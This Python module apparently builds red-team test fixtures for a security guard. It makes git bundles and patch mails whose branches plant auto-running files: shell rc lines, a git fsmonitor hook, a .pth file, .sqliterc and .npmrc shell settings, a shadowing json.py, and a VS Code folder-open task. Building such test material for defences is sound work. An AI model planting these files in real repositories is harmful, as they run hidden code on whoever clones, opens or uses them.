"""What guard21's red-team files build their attacks from, beside guard19's and guard20's parts: a git bundle (a
repository that arrives as a file, as a clone or a fetch would bring it) whose branches carry a planted file, and
a mail patch (``git am``) that adds one. Built once with the host's git, in a temporary folder, as base64 text."""

from __future__ import annotations

import base64
import functools
import os
import subprocess
import tempfile

from .redteam19_parts import P
from .redteam20_parts import PY_RUN, USER_SITE

_ENV = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b",
        "GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z", "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z",
        "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent", "PATH": os.environ["PATH"]}

# the files a branch plants: each is read by an ordinary command later (or by the user's next shell)
PLANTS = {
    "bashrc": (".bashrc", P + "\n"),
    "profile": (".profile", P + "\n"),
    "gitconfig": (".gitconfig", "[core]\n\tfsmonitor = sh run.sh\n"),
    "xdggit": (".config/git/config", "[core]\n\tfsmonitor = sh run.sh\n"),
    "pth": (USER_SITE + "/a.pth", PY_RUN + "\n"),
    "sqliterc": (".sqliterc", ".shell sh run.sh\n"),
    "npmrc": (".npmrc", "script-shell=./run.sh\n"),
    "json": ("json.py", PY_RUN + "\n"),
    "envrc": (".envrc", P + "\n"),
    "vscode": (".vscode/tasks.json", '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"sh run.sh",'
                                     '"runOptions":{"runOn":"folderOpen"}}]}\n'),
}


def _git(repo: str, *args: str, data: bytes | None = None) -> str:
    return subprocess.run(["git", "-C", repo, *args], input=data, env=_ENV, check=True, capture_output=True).stdout.decode()


@functools.cache
def bundle_b64() -> str:
    """A bundle with ``main`` (one commit, a README) and, for each plant, a branch ``p-NAME`` on top of main that adds
    the planted file, plus ``s-NAME``: a stash-shaped commit (work tree and index both holding the file) on main."""
    with tempfile.TemporaryDirectory() as d:
        subprocess.run(["git", "init", "-q", "-b", "main", d], env=_ENV, check=True)
        with open(os.path.join(d, "README"), "w") as f:
            f.write("hello\n")
        _git(d, "add", "README")
        _git(d, "commit", "-qm", "a")
        base = _git(d, "rev-parse", "HEAD").strip()
        for name, (path, text) in PLANTS.items():
            full = os.path.join(d, path)
            os.makedirs(os.path.dirname(full) or d, exist_ok=True)
            with open(full, "w") as f:
                f.write(text)
            _git(d, "add", "-f", path)
            tree = _git(d, "write-tree").strip()
            commit = _git(d, "commit-tree", tree, "-p", base, "-m", f"add {name}").strip()
            _git(d, "branch", f"p-{name}", commit)
            index = _git(d, "commit-tree", tree, "-p", base, "-m", "index").strip()
            stash = _git(d, "commit-tree", tree, "-p", base, "-p", index, "-m", "WIP on main").strip()
            _git(d, "branch", f"s-{name}", stash)
            _git(d, "rm", "-q", "--cached", path)
            os.remove(full)
        out = os.path.join(d, "r.bundle")
        _git(d, "bundle", "create", out, "--all")
        with open(out, "rb") as f:
            return base64.b64encode(f.read()).decode() + "\n"


@functools.cache
def mbox(name: str) -> str:
    """A ``git format-patch`` mail that adds the plant ``name`` on top of the bundle's main."""
    with tempfile.TemporaryDirectory() as d:
        subprocess.run(["git", "init", "-q", "-b", "main", d], env=_ENV, check=True)
        with open(os.path.join(d, "README"), "w") as f:
            f.write("hello\n")
        _git(d, "add", "README")
        _git(d, "commit", "-qm", "a")
        path, text = PLANTS[name]
        full = os.path.join(d, path)
        os.makedirs(os.path.dirname(full) or d, exist_ok=True)
        with open(full, "w") as f:
            f.write(text)
        _git(d, "add", "-f", path)
        _git(d, "commit", "-qm", "docs: notes")
        return _git(d, "format-patch", "--stdout", "-1")


def BUNDLE() -> tuple[str, str]:
    return ("r.b64", bundle_b64())


# the victim's repository: a clone of the bundle's main in the workspace, so later merges share history
CLONE = "base64 -d r.b64 > r.bundle && git init -q . && git config user.email a@b && git config user.name a && " \
        "git fetch -q r.bundle 'refs/heads/*:refs/remotes/o/*' && git checkout -q -b main o/main"
